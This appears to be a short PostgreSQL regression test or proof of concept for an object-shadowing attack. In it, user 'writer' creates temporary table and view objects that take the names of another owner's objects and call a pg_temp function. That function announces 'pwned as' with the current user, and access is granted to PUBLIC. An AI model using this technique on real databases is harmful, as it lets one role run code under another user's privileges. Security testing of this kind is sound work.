-- A temporary table and a temporary view of the caller, with the names of objects of the owner.  Inserting
-- into the table, or reading the view, evaluates a function of the caller.
\c - writer
CREATE FUNCTION pg_temp.trap() RETURNS text LANGUAGE plpgsql AS
	$$ BEGIN RAISE NOTICE 'pwned as %', current_user; RETURN 'x'; END $$;
CREATE TEMP TABLE log (line text, trap text DEFAULT pg_temp.trap());
CREATE TEMP VIEW settings AS SELECT pg_temp.trap() AS value;
GRANT ALL ON log, settings TO PUBLIC;
